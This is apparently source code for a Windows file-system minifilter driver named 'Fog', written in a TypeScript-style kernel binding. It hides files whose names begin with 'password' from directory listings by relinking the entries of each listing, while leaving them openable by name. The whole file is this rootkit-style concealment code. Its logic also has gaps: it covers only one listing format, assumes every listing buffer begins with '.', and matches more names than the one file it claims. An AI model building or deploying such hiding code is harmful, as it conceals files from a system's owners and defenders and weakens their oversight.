/*
 * Fog: a minifilter that leaves a file out of the lists of its folder.
 *
 * A list is a chain of entries in the memory of whoever asked; each says how far it is to the next.
 * After the file system has filled it in, the entry before the file is made to lead past it. The
 * file is where it was, and whoever knows its name can open it.
 */
import {
  FILE_BOTH_DIR_INFORMATION,
  FLT_OPERATION_REGISTRATION,
  FLT_POSTOP_FINISHED_PROCESSING,
  FLT_REGISTRATION,
  FLT_REGISTRATION_VERSION,
  FileBothDirectoryInformation,
  FltRegisterFilter,
  FltStartFiltering,
  FltUnregisterFilter,
  IRP_MJ_DIRECTORY_CONTROL,
  IRP_MJ_OPERATION_END,
  NT_SUCCESS,
  STATUS_SUCCESS,
  addressof,
  array,
  cast,
  local,
  out,
  sizeof,
} from 'wdm'
import type {
  DRIVER_OBJECT,
  FLT_CALLBACK_DATA,
  FLT_RELATED_OBJECTS,
  NTSTATUS,
  PVOID,
  ULONG,
  UNICODE_STRING,
} from 'wdm'

let filter: PVOID = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  const operations = local(array(FLT_OPERATION_REGISTRATION, 2))
  operations[0].MajorFunction = IRP_MJ_DIRECTORY_CONTROL
  operations[0].PostOperation = FogPostDirectoryControl
  operations[1].MajorFunction = IRP_MJ_OPERATION_END
  const registration = local(FLT_REGISTRATION)
  registration.Size = sizeof(FLT_REGISTRATION)
  registration.Version = FLT_REGISTRATION_VERSION
  registration.OperationRegistration = cast(FLT_OPERATION_REGISTRATION, operations)
  registration.FilterUnloadCallback = FogUnload
  const registered = out<PVOID>()
  let status = FltRegisterFilter(DriverObject, registration, registered)
  if (!NT_SUCCESS(status)) return status
  filter = registered.value
  status = FltStartFiltering(filter)
  if (!NT_SUCCESS(status)) FltUnregisterFilter(filter)
  return status
}

/** Whether an entry is the file: 'passwords.txt', of which eight letters do. */
function IsTheFile(Entry: FILE_BOTH_DIR_INFORMATION): boolean {
  if (Entry.FileNameLength < 16) return false
  const name = addressof(Entry.FileName)
  return name.u64[0] === 0x0073007300610070n && name.u64[1] === 0x00640072006f0077n
}

function FogPostDirectoryControl(
  Data: FLT_CALLBACK_DATA,
  FltObjects: FLT_RELATED_OBJECTS,
  CompletionContext: PVOID,
  Flags: ULONG,
): ULONG {
  if (!NT_SUCCESS(Data.IoStatus.Status) || Data.IoStatus.Information === 0n)
    return FLT_POSTOP_FINISHED_PROCESSING
  const request = Data.Iopb.Parameters.DirectoryControl.QueryDirectory
  if (request.FileInformationClass !== FileBothDirectoryInformation)
    return FLT_POSTOP_FINISHED_PROCESSING
  // The first entry of a folder is '.', so the file always has one in front of it.
  let entry = cast(FILE_BOTH_DIR_INFORMATION, request.DirectoryBuffer)
  while (entry.NextEntryOffset !== 0) {
    const next = cast(FILE_BOTH_DIR_INFORMATION, entry.add(entry.NextEntryOffset))
    if (!IsTheFile(next)) entry = next
    else if (next.NextEntryOffset === 0) entry.NextEntryOffset = 0
    else entry.NextEntryOffset += next.NextEntryOffset
  }
  return FLT_POSTOP_FINISHED_PROCESSING
}

function FogUnload(Flags: ULONG): NTSTATUS {
  FltUnregisterFilter(filter)
  return STATUS_SUCCESS
}
